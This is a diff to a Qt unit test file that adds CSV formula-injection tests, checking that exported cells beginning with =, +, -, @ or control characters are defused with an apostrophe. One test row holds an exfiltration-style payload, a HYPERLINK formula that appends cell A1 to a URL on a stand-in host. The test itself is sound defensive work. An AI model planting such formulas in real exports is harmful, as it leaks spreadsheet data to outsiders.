@@ -1,6 +1,7 @@
 // SPDX-FileCopyrightText: 2026 The Fanlight developers
 // SPDX-License-Identifier: GPL-3.0-or-later
 #include "metrics/csv.h"
+#include "metrics/csv_reader.h"
 
 #include <QBuffer>
 #include <QFile>
@@ -120,6 +121,41 @@ private Q_SLOTS:
         QFETCH(QString, text);
         QFETCH(QByteArray, cell);
         QCOMPARE(csv::cell(text), cell);
+    }
+
+    void textOfStrangersIsNoFormula_data()
+    {
+        QTest::addColumn<QString>("text");
+        QTest::addColumn<QByteArray>("cell");
+        QTest::newRow("=") << QStringLiteral("=1+1") << QByteArray("'=1+1");
+        QTest::newRow("+") << QStringLiteral("+1+1") << QByteArray("'+1+1");
+        QTest::newRow("-") << QStringLiteral("-1+1") << QByteArray("'-1+1");
+        QTest::newRow("@") << QStringLiteral("@SUM(A1)") << QByteArray("'@SUM(A1)");
+        QTest::newRow("tab") << QStringLiteral("\t=1") << QByteArray("'\t=1");
+        QTest::newRow("carriage return") << QStringLiteral("\r=1") << QByteArray("\"'\r=1\"");
+        QTest::newRow("line feed") << QStringLiteral("\n=1") << QByteArray("\"'\n=1\"");
+        QTest::newRow("full width") << QString(QChar(0xff1d)) + u'1' << QByteArray("'\xef\xbc\x9d" "1");
+        QTest::newRow("quoted") << QStringLiteral("=HYPERLINK(\"http://x/?\"&A1,\"open\")") << QByteArray("\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"open\"\")\"");
+        QTest::newRow("a sign alone") << QStringLiteral("-") << QByteArray("'-");
+        QTest::newRow("defused before") << QStringLiteral("'=1") << QByteArray("''=1");
+        QTest::newRow("number") << QStringLiteral("-3.5") << QByteArray("-3.5");
+        QTest::newRow("small number") << QStringLiteral("-1e-05") << QByteArray("-1e-05");
+        QTest::newRow("apostrophe") << QStringLiteral("'tis") << QByteArray("'tis");
+        QTest::newRow("sign within") << QStringLiteral("a=1") << QByteArray("a=1");
+    }
+    void textOfStrangersIsNoFormula()
+    {
+        QFETCH(QString, text);
+        QFETCH(QByteArray, cell);
+        QCOMPARE(csv::cell(text), cell);
+        QBuffer buffer;
+        buffer.setData(cell);
+        QVERIFY(buffer.open(QIODevice::ReadOnly));
+        CsvReader reader(buffer);
+        const auto row = reader.next();
+        QVERIFY(row && row->problem.isEmpty());
+        QString back = csv::textOfCell(row->cells.at(0));
+        QCOMPARE(back, QString(text).replace(u'\r', u'\n')); // the reader has one kind of line break
     }
 
     void writesHeaderAndAllRows()
